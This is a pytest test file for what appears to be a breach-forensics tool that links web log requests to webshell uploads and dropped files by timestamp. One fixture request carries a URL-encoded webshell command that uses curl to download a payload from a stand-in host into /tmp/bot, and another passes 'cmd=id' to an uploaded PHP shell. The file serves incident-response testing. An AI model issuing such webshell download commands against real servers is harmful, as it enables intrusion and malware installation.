"""Linking on small hand-made tables: skew, PUT, no birth time, other sites, webshell commands."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from breachkit import tables
from breachkit.correlate import correlate, guess_sites
from breachkit.correlate.links import Sites, link_all, load_suspects
from breachkit.findings import Evidence, Finding, Severity
from breachkit.logs.webload import WEB_COLUMNS

S = 1_000_000_000
T0 = 1_795_300_000 * S
FILE_COLUMNS = (
    ("path", "VARCHAR"),
    ("type", "VARCHAR"),
    ("mode", "BIGINT"),
    ("uid", "BIGINT"),
    ("user_name", "VARCHAR"),
    ("mtime_ns", "BIGINT"),
    ("ctime_ns", "BIGINT"),
    ("btime_ns", "BIGINT"),
)


def request(
    t: int, ip: str, method: str, target: str, site: str = "shop", line: int = 1, status: int = 200
) -> tuple[Any, ...]:
    path = target.split("?", 1)[0]
    return (
        t,
        site,
        ip,
        None,
        method,
        target,
        path,
        "HTTP/1.1",
        status,
        10,
        None,
        "agent",
        None,
        f"/var/log/{site}.log",
        line,
        "",
    )


@pytest.fixture
def con() -> Any:
    connection = tables.connect(None)
    tables.create_table(connection, "web_requests", WEB_COLUMNS)
    tables.create_table(connection, "files", FILE_COLUMNS)
    yield connection
    connection.close()


def sites() -> Sites:
    return Sites(roots=[("/var/www/shop", "shop"), ("/var/www/blog", "blog")], logs={}, names={})


def add_file(con: Any, path: str, mtime: int | None, ctime: int | None, btime: int | None) -> None:
    tables.append_rows(con, "files", FILE_COLUMNS, [(path, "f", 0o100644, 33, "www-data", mtime, ctime, btime)])


def test_post_before_birth_within_skew(con: Any) -> None:
    tables.append_rows(
        con,
        "web_requests",
        WEB_COLUMNS,
        [
            request(T0 - 60 * S, "192.0.2.1", "POST", "/upload.php", line=1),  # too early
            request(T0, "203.0.113.7", "POST", "/upload.php", line=2),
            request(T0, "198.51.100.9", "POST", "/upload.php", site="blog", line=3),  # another site
            request(T0 + 30 * S, "203.0.113.7", "GET", "/img/x.php?cmd=id", line=4),
        ],
    )
    add_file(con, "/var/www/shop/img/x.php", T0 + S // 2, T0 + S // 2, T0 + S // 2)
    suspects = load_suspects(con, {"/var/www/shop/img/x.php": ("webshell", None, int(Severity.CRITICAL))}, sites())
    (link,) = link_all(con, sites(), suspects, 10 * S, True)
    assert link.creator is not None and link.creator.source_line == 2
    assert link.anchor == "birth" and link.delta_ns == S // 2
    assert link.file.url_path == "/img/x.php" and link.file.site == "shop"
    assert [r.source_line for r in link.later] == [4]


def test_no_birth_time_falls_back_to_ctime_and_says_so(con: Any) -> None:
    tables.append_rows(con, "web_requests", WEB_COLUMNS, [request(T0, "203.0.113.7", "PUT", "/dav/x.php")])
    add_file(con, "/var/www/shop/dav/x.php", T0 - 86400 * S, T0 + 2 * S, None)
    suspects = load_suspects(con, {"/var/www/shop/dav/x.php": ("webshell", None, int(Severity.HIGH))}, sites())
    (link,) = link_all(con, sites(), suspects, 10 * S, True)
    assert link.creator is not None and link.creator.method == "PUT"
    assert link.anchor == "change"
    assert "no birth time" in link.reason


def test_commands_through_a_webshell_create_temp_files(con: Any) -> None:
    tables.append_rows(
        con,
        "web_requests",
        WEB_COLUMNS,
        [
            request(T0, "203.0.113.7", "POST", "/upload.php", line=1),
            request(
                T0 + 100 * S,
                "203.0.113.7",
                "GET",
                "/img/x.php?cmd=curl%20-o%20%2Ftmp%2Fbot%20http%3A%2F%2F198.51.100.23%2Fb",
                line=2,
            ),
            request(T0 + 100 * S, "192.0.2.50", "GET", "/index.php?q=1", line=3),
        ],
    )
    add_file(con, "/var/www/shop/img/x.php", T0 + S, T0 + S, T0 + S)
    add_file(con, "/tmp/bot", T0 + 101 * S, T0 + 101 * S, T0 + 101 * S)
    wanted = {
        "/var/www/shop/img/x.php": ("webshell", None, int(Severity.CRITICAL)),
        "/tmp/bot": ("program in a temp folder", None, int(Severity.HIGH)),
    }
    links = {link.file.path: link for link in link_all(con, sites(), load_suspects(con, wanted, sites()), 10 * S, True)}
    bot = links["/tmp/bot"]
    assert bot.creator is not None and bot.creator.source_line == 2
    assert bot.file.site is None and bot.file.url_path is None


def test_medium_script_is_not_treated_as_a_webshell(con: Any) -> None:
    # An ordinary page a medium finding named (odd times): requests to it create nothing.
    tables.append_rows(con, "web_requests", WEB_COLUMNS, [request(T0, "192.0.2.50", "GET", "/index.php", line=1)])
    add_file(con, "/var/www/shop/index.php", T0 - 86400 * S, T0 - 86400 * S, T0 - 86400 * S)
    add_file(con, "/tmp/sess", T0 + S, T0 + S, T0 + S)
    wanted = {
        "/var/www/shop/index.php": ("odd times", None, int(Severity.MEDIUM)),
        "/tmp/sess": ("file in temp", None, int(Severity.HIGH)),
    }
    links = {link.file.path: link for link in link_all(con, sites(), load_suspects(con, wanted, sites()), 10 * S, True)}
    assert links["/tmp/sess"].creator is None
    assert "could not establish" in links["/tmp/sess"].gap


def test_sites_guessed_from_the_usual_layout_without_configuration(con: Any) -> None:
    log = "/var/log/apache2/shop.example.org_access.log"
    tables.append_rows(con, "web_requests", WEB_COLUMNS, [request(T0, "192.0.2.1", "GET", "/", site=log)])
    tables.append_rows(
        con, "files", FILE_COLUMNS, [("/var/www/shop.example.org/htdocs", "d", 0o40755, 0, "root", T0, T0, T0)]
    )
    found = Sites()
    gaps: list[str] = []
    guess_sites(con, found, gaps)
    assert found.roots == [("/var/www/shop.example.org/htdocs", "shop.example.org")]
    assert found.site_of("/var/www/shop.example.org/htdocs/a/b.php") == ("shop.example.org", "/a/b.php")
    assert found.name_of(log, None) == "shop.example.org"
    assert "usual layout" in gaps[0]


def test_a_case_with_only_the_file_timeline(tmp_path: Path) -> None:
    connection = tables.connect(tmp_path)
    tables.create_table(connection, "files", FILE_COLUMNS)
    add_file(connection, "/tmp/.x/bot", T0, T0, T0)
    tables.append_rows(connection, "files", FILE_COLUMNS, [("/tmp/.x", "d", 0o40755, 33, "www-data", T0, T0, T0)])
    connection.close()
    findings = [
        Finding("detect.file", "bot", Severity.CRITICAL, 0.9, "a bot", (Evidence(path="/tmp/.x/bot", sha256="ab"),))
    ]
    result = correlate(tmp_path, findings)
    assert {link.file.path for link in result.links} == {"/tmp/.x/bot", "/tmp/.x"}
    assert any("no web access log requests" in gap for gap in result.gaps)
    assert any("no evidence bundle" in gap for gap in result.gaps)
    assert result.zone == "UTC" and result.story[0].text.startswith("/tmp/.x")
